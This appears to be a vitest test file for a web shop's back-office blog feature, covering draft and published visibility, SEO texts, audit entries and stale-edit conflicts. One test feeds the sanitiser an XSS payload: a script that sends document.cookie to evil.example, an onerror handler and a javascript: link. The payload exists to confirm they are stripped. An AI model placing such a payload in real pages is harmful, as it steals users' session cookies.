import { randomBytes } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import { auditTrail } from "~/models/audit/audit.server";
import { savePostText } from "~/models/content/blog-edit.server";
import { blogIndex, blogPost } from "~/models/content/blog.server";
import { listLatestPosts } from "~/models/content/content.server";
import { contentSitemapUrls } from "~/models/content/sitemap.server";
import { db } from "~/models/db/db.server";
import { seedDemoData } from "~/models/demo-data/index.server";
import { siteForHost } from "~/models/sites/sites.server";
import { action as postAction } from "~/routes/admin/content-blog-post";
import { action as newPostAction } from "~/routes/admin/content-blog";
import { loader as blogPostPage } from "~/routes/content/blog-post";
import { ORIGIN, context, signedInStaff, outcome } from "./staff-requests";

// Blog posts written in the back office (issue 29, docs/back-office.md), on
// the embedded database and on PostgreSQL: a post's text in a language is a
// draft, shown nowhere, until it is published, and then on /blog, its own
// page with its SEO title and description, the home page's teasers and the
// sitemap at once; it goes through the shop's sanitiser; an edit made on an
// older page is refused; every save is in the audit log.

const unique = () => randomBytes(4).toString("hex");

beforeAll(async () => {
  await seedDemoData(db(), { products: 10, seed: 13 });
});

const post = (path: string, fields: Record<string, string>, cookie: string) => {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.set(name, value);
  return new Request(`${ORIGIN}${path}`, { method: "POST", headers: { cookie, origin: ORIGIN }, body: form });
};
const postVersion = async (id: number) => (await db().selectFrom("blog_posts").select("updated_at").where("id", "=", id).executeTakeFirstOrThrow()).updated_at.toISOString();

/** A new post made through its page, as the catalogue role makes one. */
async function newPost(cookie: string) {
  const slug = `parcel-lockers-${unique()}`;
  const made = await outcome(() => newPostAction({ request: post("/admin/content/blog", { intent: "create", slug }, cookie), params: {}, context }));
  expect(made.status).toBe(303);
  const id = Number(/\/admin\/content\/blog\/(\d+)\?created$/.exec(made.location ?? "")?.[1]);
  expect(id).toBeGreaterThan(0);
  return { id, slug };
}

const LATVIAN = {
  intent: "save",
  locale: "lv",
  title: "Kā saņemt sūtījumu pakomātā",
  excerpt: "Trīs soļi līdz jūsu sūtījumam.",
  body: "Izvēlieties **pakomātu** noformēšanas laikā.\n\n## Soļi\n\n- Izvēlieties pakomātu\n- Saņemiet kodu\n\nSkatiet [BUJ](/lv/faq).",
  seoTitle: "Sūtījums pakomātā – ceļvedis",
  seoDescription: "Kā Latvijā saņemt sūtījumu pakomātā trīs soļos.",
  status: "published",
} as const;

const shown = async (slug: string) => {
  const site = await siteForHost("lv.localhost");
  const index = await blogIndex(site.id, "lv", null);
  return {
    onBlog: index.kind === "page" && index.posts.some((p) => p.slug === slug),
    ownPage: (await blogPost(site.id, "lv", slug)) !== undefined,
    teasers: (await listLatestPosts("lv", 50, site.id)).some((p) => p.slug === slug),
    sitemap: (await contentSitemapUrls(site)).some((url) => url.endsWith(`/lv/blog/${slug}`)),
  };
};

describe("a blog post written in the back office", () => {
  it("as a draft is shown nowhere; published, it is on /blog, its page with its SEO texts, the teasers and the sitemap at once, dated then", async () => {
    const { actor, cookie } = await signedInStaff("catalogue");
    const { id, slug } = await newPost(cookie);
    const draft = await outcome(() => postAction({ request: post(`/admin/content/blog/${id}`, { ...LATVIAN, status: "draft", version: "" }, cookie), params: { id: String(id) }, context }));
    // No version: refused before anything is written.
    expect(draft.status).toBe(400);
    const saved = await outcome(async () => postAction({ request: post(`/admin/content/blog/${id}`, { ...LATVIAN, status: "draft", version: await postVersion(id) }, cookie), params: { id: String(id) }, context }));
    expect(saved).toMatchObject({ status: 303, location: `/admin/content/blog/${id}?lang=lv&saved` });
    expect(await shown(slug)).toEqual({ onBlog: false, ownPage: false, teasers: false, sitemap: false });

    // Back-dated, as a draft begun a week ago would be: publishing dates it now.
    await db().updateTable("blog_posts").set({ published_at: new Date(Date.now() - 7 * 86_400_000) }).where("id", "=", id).execute();
    const published = await outcome(async () => postAction({ request: post(`/admin/content/blog/${id}`, { ...LATVIAN, version: await postVersion(id) }, cookie), params: { id: String(id) }, context }));
    expect(published.status).toBe(303);
    expect(await shown(slug)).toEqual({ onBlog: true, ownPage: true, teasers: true, sitemap: true });
    const dated = (await db().selectFrom("blog_posts").select("published_at").where("id", "=", id).executeTakeFirstOrThrow()).published_at;
    expect(Date.now() - new Date(dated).getTime()).toBeLessThan(60_000);

    const page = (await blogPostPage({ request: new Request(`${ORIGIN}/lv/blog/${slug}`), params: { locale: "lv", slug }, context: {} })) as Awaited<ReturnType<typeof blogPostPage>>;
    expect(page.post).toMatchObject({ title: LATVIAN.title, excerpt: LATVIAN.excerpt, seo_title: LATVIAN.seoTitle, seo_description: LATVIAN.seoDescription, body: LATVIAN.body });
    // Only in Latvian.
    expect(await blogPost((await siteForHost("lv.localhost")).id, "en", slug)).toBeUndefined();

    const trail = await auditTrail("blog_post", id);
    expect(trail.map((entry) => [entry.action, entry.staff_email])).toEqual([
      ["content.post.save", actor.email],
      ["content.post.save", actor.email],
      ["content.post.create", actor.email],
    ]);
    expect(trail[0]!.before).toMatchObject({ locale: "lv", published: false });
    expect(trail[0]!.after).toMatchObject({ locale: "lv", published: true, title: LATVIAN.title });

    // Put back to draft, it goes again.
    expect(await savePostText(actor, id, "lv", { ...LATVIAN, status: "draft" }, new Date(await postVersion(id)))).toEqual({ ok: true, id });
    expect(await shown(slug)).toEqual({ onBlog: false, ownPage: false, teasers: false, sitemap: false });
  });

  it("keeps no HTML and no unsafe link, fills an empty lead from the text, and its preview saves nothing", async () => {
    const { cookie } = await signedInStaff("owner");
    const { id, slug } = await newPost(cookie);
    const body = 'Read<script>fetch("https://evil.example/?c="+document.cookie)</script> this.\n\n<img src=x onerror="alert(1)">[Pay here](javascript:alert%281%29) or [the FAQ](/lv/faq)';
    const preview = await outcome(async () => postAction({ request: post(`/admin/content/blog/${id}`, { ...LATVIAN, intent: "preview", excerpt: "", body, seoDescription: "", version: await postVersion(id) }, cookie), params: { id: String(id) }, context }));
    expect(preview.status).toBe(200);
    expect((preview.data as { preview: unknown }).preview).toEqual({ title: LATVIAN.title, body: "Read this.\n\nPay here or [the FAQ](/lv/faq)", seoTitle: LATVIAN.seoTitle, seoDescription: "Read this. Pay here or the FAQ" });
    expect((await shown(slug)).ownPage).toBe(false);

    const saved = await outcome(async () => postAction({ request: post(`/admin/content/blog/${id}`, { ...LATVIAN, title: "Safe? <b>Yes</b>", excerpt: "", body, version: await postVersion(id) }, cookie), params: { id: String(id) }, context }));
    expect(saved.status).toBe(303);
    const site = await siteForHost("lv.localhost");
    expect((await blogPost(site.id, "lv", slug))?.post).toMatchObject({ title: "Safe? Yes", body: "Read this.\n\nPay here or [the FAQ](/lv/faq)", excerpt: "Read this. Pay here or the FAQ" });
  });

  it("refuses an edit made on an older page, naming who changed it, and changes nothing", async () => {
    const first = await signedInStaff("catalogue");
    const second = await signedInStaff("owner");
    const { id, slug } = await newPost(first.cookie);
    const seen = await postVersion(id);
    expect((await outcome(() => postAction({ request: post(`/admin/content/blog/${id}`, { ...LATVIAN, version: seen }, first.cookie), params: { id: String(id) }, context }))).status).toBe(303);
    const stale = await outcome(() => postAction({ request: post(`/admin/content/blog/${id}`, { ...LATVIAN, title: "Overwritten?", version: seen }, second.cookie), params: { id: String(id) }, context }));
    expect(stale.status).toBe(409);
    expect(JSON.stringify(stale.data)).toContain(first.actor.email);
    const site = await siteForHost("lv.localhost");
    expect((await blogPost(site.id, "lv", slug))?.post.title).toBe(LATVIAN.title);
    // A slug already taken is refused on the list's form.
    const again = await outcome(() => newPostAction({ request: post("/admin/content/blog", { intent: "create", slug }, first.cookie), params: {}, context }));
    expect(again.status).toBe(409);
    expect(JSON.stringify(again.data)).toContain("Another page or entry already has this address.");
  });
});
